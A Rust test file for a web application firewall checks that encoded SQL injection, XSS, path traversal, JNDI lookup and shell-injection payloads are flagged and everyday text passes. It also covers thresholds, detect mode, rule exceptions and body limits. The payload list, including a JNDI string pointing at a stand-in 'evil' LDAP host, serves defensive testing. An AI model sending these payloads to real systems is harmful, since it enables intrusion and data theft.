//! Attacks that must be found, in the disguises of their trade, and texts of every day that must not.

use super::*;
use cairn_sdk::testing::{Proxy, TestRequest};

fn waf(config: &str) -> Proxy<Firewall> {
    Proxy::new(config).unwrap()
}

fn rules(proxy: &mut Proxy<Firewall>, request: TestRequest) -> Vec<String> {
    let outcome = proxy.send(request);
    assert_eq!(outcome.status == 200, outcome.details.is_empty(), "{outcome:?}");
    outcome
        .details
        .strip_prefix("waf_")
        .map(|rules| rules.split(',').map(str::to_owned).collect())
        .unwrap_or_default()
}

#[test]
fn attacks_are_found() {
    let cases = [
        ("/a?id=1%20UNION%20SELECT%20password%20FROM%20users", "sqli-union"),
        ("/a?id=1+union/**/all/**/select+1", "sqli-union"),
        ("/a?id=1%2520union%2520(select%25201)", "sqli-union"),
        ("/a?name='%20OR%20'1'='1", "sqli-tautology"),
        ("/a?name=\"%20or%20\"a\"=\"a", "sqli-tautology"),
        ("/a?id=1)%20or%20(1=1", "sqli-tautology"),
        ("/a?id=1;drop%20table%20users", "sqli-stacked"),
        ("/a?id=1'%20and%20sleep(5)", "sqli-function"),
        ("/a?q=<script>alert(1)</script>", "xss-tag"),
        ("/a?q=%3CsvG/onload=alert(1)%3E", "xss-tag"),
        ("/a?q=<img%20src=x%20onerror=alert(1)>", "xss-handler"),
        ("/a?q=&%2360;script&%2362;", "xss-tag"),
        ("/a?u=java%09script:alert(1)", "xss-scheme"),
        ("/a/..%2f..%2fetc%2fpasswd", "traversal-dots"),
        ("/a?f=..%5c..%5cwindows%5csystem32", "traversal-dots"),
        ("/a?f=/etc/passwd", "traversal-file"),
        ("/a?x=${jndi:ldap://evil/a}", "injection-jndi"),
        ("/a?x=1;cat%20/etc/hosts", "injection-shell"),
        ("/a?x=$(whoami)", "injection-shell"),
    ];
    let mut proxy = waf("");
    for (path, rule) in cases {
        let found = rules(&mut proxy, TestRequest::get(path));
        assert!(found.iter().any(|found| found == rule), "{path}: {found:?}");
        let query = path.split_once('?').map_or(path, |(_, query)| query);
        let body = TestRequest::post("/a", query).header("content-type", "application/x-www-form-urlencoded");
        let found = rules(&mut proxy, body.cut(5));
        assert!(found.iter().any(|found| found == rule), "as a body, {path}: {found:?}");
    }
    assert_eq!(
        rules(&mut proxy, TestRequest::get("/").header("user-agent", "sqlmap/1.7")),
        ["scanner-agent"]
    );
    assert_eq!(
        rules(&mut proxy, TestRequest::get("/").header("cookie", "a=' or '1'='1")),
        ["sqli-tautology"]
    );
}

#[test]
fn texts_of_every_day_pass() {
    let texts = [
        "union of select clubs and trade unions",
        "select the best from our menu",
        "O'Brien and Sons or O'Neill",
        "rock & roll; blues | jazz",
        "a=1&b=2&c=3",
        "x=1 and y=2, or y=3",
        "1 < 2 and 3 > 2",
        "update: we have moved; drop by anytime",
        "the script was on the table",
        "let us sleep (well) tonight",
        "it's -- as they say -- fine",
        "price is $5 (or {6} for two)",
        "see ./docs and ../img/logo.png",
        "onion soup = tasty",
        "{\"filter\":{\"price\":{\"$gt\":10}},\"name\":\"<b>bold</b>\"}",
        "C# and F# or \"C++\"",
        "Tom & Jerry; id=5; ls is a command",
        "ordered=true&android=1&brand=and",
        "résumé – naïve café 100%",
    ];
    let mut proxy = waf("");
    for text in texts {
        let query: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
        assert_eq!(
            rules(&mut proxy, TestRequest::get(&format!("/a?q={query}"))),
            Vec::<String>::new(),
            "{text}"
        );
        let body = TestRequest::post("/a", text).header("content-type", "text/plain");
        assert_eq!(rules(&mut proxy, body), Vec::<String>::new(), "{text}");
    }
    for agent in [
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Safari/537.36",
        "curl/8.5.0",
    ] {
        assert_eq!(
            rules(&mut proxy, TestRequest::get("/").header("user-agent", agent)),
            Vec::<String>::new()
        );
    }
}

#[test]
fn hints_add_up() {
    let mut proxy = waf("");
    assert_eq!(proxy.send(TestRequest::get("/.git/config")).status, 200);
    assert_eq!(proxy.send(TestRequest::get("/.git/config?a='--")).status, 403);
    let mut proxy = waf(r#"{"threshold": 3}"#);
    assert_eq!(proxy.send(TestRequest::get("/.git/config")).status, 403);
}

#[test]
fn detection_only_counts() {
    let mut proxy = waf(r#"{"mode": "detect"}"#);
    let attack = TestRequest::post("/?q=<script>", "x".repeat(200_000)).header("content-length", "200000");
    assert_eq!(proxy.send(attack).status, 200);
    assert_eq!(proxy.metric("rule=.=xss-tag;.;mode=.=detect;.;waf_hits_total"), Some(1));
    assert_eq!(proxy.logs(), ["a request scores 5 by xss-tag"]);
}

#[test]
fn rules_can_be_switched_off() {
    let mut proxy =
        waf(r#"{"disable": ["scanner-agent"], "except": [{"path": "/editor", "rules": ["xss"]}]}"#);
    assert_eq!(proxy.send(TestRequest::get("/").header("user-agent", "nikto")).status, 200);
    let html = |path| TestRequest::post(path, "<script>").header("content-type", "text/html");
    assert_eq!((proxy.send(html("/editor/1")).status, proxy.send(html("/other")).status), (200, 403));
}

#[test]
fn bodies_are_bounded_and_never_skipped() {
    let mut proxy = waf(r#"{"inspect": {"bodyKilobytes": 1}}"#);
    let large = || TestRequest::post("/", "a".repeat(2000)).header("content-type", "text/plain");
    assert_eq!(proxy.send(large().header("content-length", "2000")).status, 413);
    assert_eq!(proxy.send(large().cut(100)).status, 413);
    assert_eq!(proxy.send(TestRequest::post("/", [0; 2000]).header("content-type", "image/png")).status, 200);
    proxy.refuse("proxy_get_buffer_bytes", 10);
    assert_eq!(proxy.send(TestRequest::post("/", "a").header("content-type", "text/plain")).status, 503);
}

#[test]
fn configurations_that_make_no_sense_are_refused() {
    for (json, error) in [
        (r#"{"disable": ["xxs"]}"#, "configuration: there is no rule or group `xxs`"),
        (r#"{"threshold": 0}"#, "configuration: threshold: "),
        (r#"{"inspect": {"bodyKilobytes": 0}}"#, "configuration: inspect.bodyKilobytes: "),
        (r#"{"mode": "learn"}"#, "configuration: mode: "),
    ] {
        let found = Proxy::<Firewall>::new(json).err().unwrap_or_default();
        assert!(found.starts_with(error), "{json}: {found}");
    }
}
